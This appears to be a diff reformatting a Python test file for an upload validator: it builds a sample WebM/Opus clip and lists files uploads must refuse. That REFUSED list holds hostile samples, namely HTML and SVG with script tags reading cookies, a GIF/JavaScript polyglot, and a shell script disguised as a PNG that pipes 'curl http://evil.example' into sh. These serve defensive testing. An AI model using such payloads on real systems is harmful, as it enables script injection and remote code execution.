@@ -85,14 +85,29 @@ def _ebml(element_id, payload):
 def webm_opus_clip():
     """An EBML header with DocType webm and a Segment whose Tracks hold one
     Opus audio track, the start of what Chrome's MediaRecorder writes."""
-    header = _ebml(b"\x1a\x45\xdf\xa3", b"".join([
-        _ebml(b"\x42\x86", b"\x01"), _ebml(b"\x42\xf7", b"\x01"), _ebml(b"\x42\xf2", b"\x04"),
-        _ebml(b"\x42\xf3", b"\x08"), _ebml(b"\x42\x82", b"webm"), _ebml(b"\x42\x87", b"\x04"),
-        _ebml(b"\x42\x85", b"\x02"),
-    ]))
+    header = _ebml(
+        b"\x1a\x45\xdf\xa3",
+        b"".join(
+            [
+                _ebml(b"\x42\x86", b"\x01"),
+                _ebml(b"\x42\xf7", b"\x01"),
+                _ebml(b"\x42\xf2", b"\x04"),
+                _ebml(b"\x42\xf3", b"\x08"),
+                _ebml(b"\x42\x82", b"webm"),
+                _ebml(b"\x42\x87", b"\x04"),
+                _ebml(b"\x42\x85", b"\x02"),
+            ]
+        ),
+    )
     audio = _ebml(b"\xe1", _ebml(b"\xb5", struct.pack(">f", 48000.0)) + _ebml(b"\x9f", b"\x01"))
-    track = _ebml(b"\xae", _ebml(b"\xd7", b"\x01") + _ebml(b"\x73\xc5", b"\x01") + _ebml(b"\x83", b"\x02")
-                  + _ebml(b"\x86", b"A_OPUS") + audio)
+    track = _ebml(
+        b"\xae",
+        _ebml(b"\xd7", b"\x01")
+        + _ebml(b"\x73\xc5", b"\x01")
+        + _ebml(b"\x83", b"\x02")
+        + _ebml(b"\x86", b"A_OPUS")
+        + audio,
+    )
     segment = _ebml(b"\x18\x53\x80\x67", _ebml(b"\x16\x54\xae\x6b", track))
     return header + segment
 
@@ -171,9 +186,18 @@ ACCEPTED = [
 
 # Files no upload may be, with the name and Content-Type they come under.
 REFUSED = [
-    ("html", b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>", "x.html", "text/html"),
-    ("svg", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
-     "x.svg", "image/svg+xml"),
+    (
+        "html",
+        b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
+        "x.html",
+        "text/html",
+    ),
+    (
+        "svg",
+        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+        "x.svg",
+        "image/svg+xml",
+    ),
     ("script-as-png", b"#!/bin/sh\ncurl http://evil.example | sh\n", "cute.png", "image/png"),
     ("js-after-gif-magic", b"GIF89a/*\x00\x00*/=1;alert(document.domain);//", "a.gif", "image/gif"),
     ("png-magic-then-html", b"\x89PNG\r\n\x1a\n<html><script>alert(1)</script></html>", "a.png", "image/png"),
